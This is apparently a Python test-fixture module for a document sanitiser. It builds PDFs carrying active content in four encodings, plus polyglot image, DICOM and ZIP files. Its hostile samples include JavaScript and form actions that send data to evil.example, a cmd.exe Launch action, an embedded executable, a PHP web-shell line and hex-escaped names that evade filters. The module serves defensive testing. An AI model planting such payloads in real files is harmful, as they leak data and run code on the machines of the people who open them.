"""Good documents carrying something that must not be stored: active PDFs (written in four
ways each) and polyglots. Each is accepted and only the real document is kept."""

import io
import zlib

import pikepdf

from tests import samples
from tests.records.corpus.builders import (
    PROGRAMS,
    _saved,
    jpeg_with_segment,
    pdf_document,
    picture,
    png_chunk,
    png_with_text,
    zip_of,
)
from tests.records.corpus.cases import (
    DICOM,
    EICAR,
    JPEG,
    PDF,
    PNG,
    STUDY,
    Case,
)

SCRIPT = "app.launchURL('https://evil.example/?c=' + this.info.title)"


def _action(kind: str, **fields):
    return pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **fields)


def _file_spec(document) -> pikepdf.Dictionary:
    payload = document.make_stream(PROGRAMS["windows-program"])
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec,
        F=pikepdf.String("invoice.exe"),
        EF=pikepdf.Dictionary(F=payload),
    )


def _inject(kind: str):
    """Functions that put one kind of active content into an open PDF."""

    def open_action_script(document):
        document.Root.OpenAction = _action("JavaScript", JS=pikepdf.String(SCRIPT))

    def page_script(document):
        document.pages[0].obj.AA = pikepdf.Dictionary(
            O=_action("JavaScript", JS=pikepdf.String(SCRIPT))
        )

    def catalog_script(document):
        document.Root.AA = pikepdf.Dictionary(WC=_action("JavaScript", JS=pikepdf.String(SCRIPT)))

    def script_name_tree(document):
        script = document.make_indirect(
            _action("JavaScript", JS=document.make_stream(SCRIPT.encode()))
        )
        document.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), script]))
        )

    def launch(document):
        document.Root.OpenAction = _action(
            "Launch",
            F=pikepdf.String("cmd.exe"),
            Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc")),
        )

    def embedded_file(document):
        document.Root.Names = pikepdf.Dictionary(
            EmbeddedFiles=pikepdf.Dictionary(
                Names=pikepdf.Array([pikepdf.String("invoice.exe"), _file_spec(document)])
            )
        )

    def attachment_annotation(document):
        document.pages[0].obj.Annots = pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.FileAttachment,
                    Rect=[0, 0, 10, 10],
                    FS=_file_spec(document),
                )
            ]
        )

    def submit_form(document):
        target = pikepdf.Dictionary(
            FS=pikepdf.Name.URL, F=pikepdf.String("https://evil.example/collect")
        )
        widget = document.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Btn,
                T=pikepdf.String("send"),
                Rect=[0, 0, 50, 20],
                A=_action("SubmitForm", F=target),
            )
        )
        document.pages[0].obj.Annots = pikepdf.Array([widget])
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))

    def remote_goto_unc(document):
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 600, 800],
            A=_action(
                "GoToR",
                F=pikepdf.String("\\\\evil.example\\share\\x.pdf"),
                D=pikepdf.Array([0, pikepdf.Name.Fit]),
            ),
        )
        document.pages[0].obj.Annots = pikepdf.Array([link])

    def address_on_open(document):
        document.Root.OpenAction = _action("URI", URI=pikepdf.String("https://evil.example/track"))

    def xfa_script(document):
        xfa = document.make_stream(
            b"<xdp:xdp><template><script contentType='application/x-javascript'>"
            b"app.alert(1)</script></template></xdp:xdp>"
        )
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=xfa)
        document.Root.NeedsRendering = True

    def keystroke_script(document):
        field = document.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Tx,
                T=pikepdf.String("weight"),
                Rect=[72, 600, 300, 620],
                AA=pikepdf.Dictionary(K=_action("JavaScript", JS=pikepdf.String(SCRIPT))),
            )
        )
        document.pages[0].obj.Annots = pikepdf.Array([field])
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))

    def chained_script(document):
        page = document.pages[0].obj
        document.Root.OpenAction = _action(
            "GoTo",
            D=pikepdf.Array([page, pikepdf.Name.Fit]),
            Next=_action("JavaScript", JS=pikepdf.String(SCRIPT)),
        )

    def link_running_script(document):
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 600, 800],
            A=_action("JavaScript", JS=pikepdf.String(SCRIPT)),
        )
        document.pages[0].obj.Annots = pikepdf.Array([link])

    return locals()[kind]


ACTIVE_KINDS = (
    "open_action_script",
    "page_script",
    "catalog_script",
    "script_name_tree",
    "launch",
    "embedded_file",
    "attachment_annotation",
    "submit_form",
    "remote_goto_unc",
    "address_on_open",
    "xfa_script",
    "keystroke_script",
    "chained_script",
    "link_running_script",
)

HEX_NAMES = {
    b"/JavaScript": b"/J#61vaScript",
    b"/Launch": b"/L#61unch",
    b"/OpenAction": b"/Op#65nAction",
    b"/EmbeddedFiles": b"/Embedd#65dFiles",
    b"/SubmitForm": b"/Subm#69tForm",
    b"/GoToR": b"/GoT#6fR",
    b"/XFA": b"/X#46A",
    b"/FileAttachment": b"/Fil#65Attachment",
    b"/URI": b"/UR#49",
    b"/JS": b"/J#53",
}


def active_pdf(kind: str, variant: str) -> bytes:
    """A one-page report carrying one kind of active content, written one way: plainly,
    in compressed object streams, with hex-escaped names, or added by an incremental
    update after the file's first end."""
    base = pdf_document(2)
    if variant == "incremental":
        return _incremental(base, kind)
    document = pikepdf.open(io.BytesIO(base))
    _inject(kind)(document)
    if variant == "object-streams":
        return _saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    content = _saved(document, qdf=True)  # names written as they are, streams uncompressed
    if variant == "hex-names":
        for name, escaped in HEX_NAMES.items():
            content = content.replace(name + b" ", escaped + b" ").replace(
                name + b"\n", escaped + b"\n"
            )
    return content


def _incremental(base: bytes, kind: str) -> bytes:
    """``base`` with an update appended, as an editor saves one: a new catalog and the
    objects ``kind`` adds, a cross-reference section and a trailer pointing back."""
    original = pikepdf.open(io.BytesIO(base))
    changed = pikepdf.open(io.BytesIO(base))
    _inject(kind)(changed)
    added = {}
    for item in changed.objects:
        number = item.objgen[0]
        if not number:
            continue
        body = None if isinstance(item, pikepdf.Stream) else item.unparse(resolved=True)
        if number > len(original.objects) or (
            body is not None and body != original.get_object((number, 0)).unparse(resolved=True)
        ):
            added[number] = body
    catalog = changed.Root.objgen[0]
    update, offsets = b"\n", {}
    for number, body in sorted(added.items()):
        if body is None:
            stream_object = changed.get_object((number, 0))
            data = stream_object.read_bytes()
            dictionary = pikepdf.Dictionary(
                {
                    k: v
                    for k, v in stream_object.stream_dict.items()
                    if k not in ("/Length", "/Filter", "/DecodeParms")
                }
            )
            body = (
                dictionary.unparse(resolved=True)[:-2]
                + b"/Length %d>>\nstream\n" % len(data)
                + data
                + b"\nendstream"
            )
        offsets[number] = len(base) + len(update)
        update += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(base) + len(update)
    table = b"xref\n0 1\n0000000000 65535 f \n"
    for number in sorted(offsets):
        table += f"{number} 1\n{offsets[number]:010d} 00000 n \n".encode()
    previous = int(base[base.rfind(b"startxref") + 9 :].split()[0])
    size = max(max(offsets) + 1, len(original.objects) + 1)
    trailer = (
        f"trailer\n<</Size {size}/Root {catalog} 0 R/Prev {previous}>>\nstartxref\n{xref}\n%%EOF\n"
    )
    return base + update + table + trailer.encode()


def pdf_clean_cases() -> list[Case]:
    cases = []
    for kind in ACTIVE_KINDS:
        for variant in ("plain", "object-streams", "hex-names", "incremental"):
            label = f"pdf-{kind.replace('_', '-')}-{variant}"
            cases.append(
                Case(
                    label,
                    active_pdf(kind, variant),
                    "clean",
                    PDF,
                    "report.pdf",
                    "record",
                    notes=["removed from this PDF"],
                )
            )
    document = pdf_document(2)
    cases += [
        Case(
            "pdf-then-zip",
            document + zip_of([("evil.js", b"alert(1)")]),
            "clean",
            PDF,
            "r.pdf",
            "record",
            notes=["after the end of this PDF"],
        ),
        Case(
            "pdf-then-web-page",
            document + b"<html><script>alert(1)</script></html>",
            "clean",
            PDF,
            "r.pdf",
            "record",
            notes=["after the end of this PDF"],
        ),
        Case(
            "pdf-then-eicar",
            document + EICAR,
            "clean",
            PDF,
            "r.pdf",
            "record",
            notes=["after the end of this PDF"],
        ),
        Case(
            "pdf-then-program",
            document + PROGRAMS["windows-program"],
            "clean",
            PDF,
            "r.pdf",
            "record",
            notes=["after the end of this PDF"],
        ),
    ]
    return cases


def polyglot_cases() -> list[Case]:
    photo, scan = picture("JPEG"), picture("PNG")
    jar = zip_of(
        [("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), ("Evil.class", PROGRAMS["java-class"])]
    )
    ct = samples.dicom()
    extra = "extra data stored after"
    return [
        Case("jpeg-then-jar", photo + jar, "clean", JPEG, "p.jpg", "record", notes=[extra]),
        Case(
            "jpeg-then-web-page",
            photo + b"<html><body><script>alert(1)</script></body></html>",
            "clean",
            JPEG,
            "p.jpg",
            "record",
            notes=[extra],
        ),
        Case("jpeg-then-eicar", photo + EICAR, "clean", JPEG, "p.jpg", "record", notes=[extra]),
        Case(
            "jpeg-php-in-comment",
            jpeg_with_segment(b"\xff\xfe", b"<?php system($_GET['c']); ?>"),
            "clean",
            JPEG,
            "p.jpg",
            "record",
        ),
        Case(
            "jpeg-script-in-xmp",
            jpeg_with_segment(
                b"\xff\xe1",
                b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><script>alert(1)</script></x:xmpmeta>",
            ),
            "clean",
            JPEG,
            "p.jpg",
            "record",
        ),
        Case(
            "jpeg-html-in-app-segment",
            jpeg_with_segment(b"\xff\xec", b"<html><script>alert(1)</script></html>"),
            "clean",
            JPEG,
            "p.jpg",
            "record",
        ),
        Case(
            "png-then-web-page",
            scan + b"<html><script>fetch('/steal')</script></html>",
            "clean",
            PNG,
            "s.png",
            "record",
            notes=[extra],
        ),
        Case("png-then-zip", scan + jar, "clean", PNG, "s.png", "record", notes=[extra]),
        Case(
            "png-script-in-text-chunk",
            png_with_text(b"Comment", b"<script>alert(1)</script>"),
            "clean",
            PNG,
            "s.png",
            "record",
        ),
        Case(
            "png-php-in-compressed-text",
            scan[:33]
            + png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"<?php system($_GET['c']); ?>"))
            + scan[33:],
            "clean",
            PNG,
            "s.png",
            "record",
        ),
        Case("dicom-then-zip", ct + jar, "clean", DICOM, "IM.dcm", notes=[extra]),
        Case(
            "dicom-then-web-page",
            ct + b"<html><script>alert(1)</script></html>",
            "clean",
            DICOM,
            "IM.dcm",
            notes=[extra],
        ),
        Case("dicom-then-eicar", ct + EICAR, "clean", DICOM, "IM.dcm", notes=[extra]),
        Case(
            "dicom-web-page-in-preamble",
            b"<html><script>alert(1)</script></html>".ljust(128, b" ") + ct[128:],
            "clean",
            DICOM,
            "IM.dcm",
        ),
        Case(
            "dicom-script-in-preamble",
            b"<script>document.location='https://evil.example'</script>".ljust(128, b"\0")
            + ct[128:],
            "clean",
            DICOM,
            "IM.dcm",
        ),
        Case("dicom-tiff-preamble", b"II*\x00" + b"\0" * 124 + ct[128:], "clean", DICOM, "IM.dcm"),
        Case(
            "zip-then-web-page",
            samples.dicom_zip() + b"<html><script>alert(1)</script></html>",
            "clean",
            STUDY,
            "s.zip",
        ),
        Case(
            "zip-image-then-zip",
            zip_of([("IM1", ct + jar), ("IM2", samples.dicom("MR_small.dcm"))]),
            "clean",
            STUDY,
            "s.zip",
        ),
        Case(
            "zip-image-with-web-page-preamble",
            zip_of(
                [("IM1", b"<html><script>alert(1)</script></html>".ljust(128, b" ") + ct[128:])]
            ),
            "clean",
            STUDY,
            "s.zip",
        ),
    ]
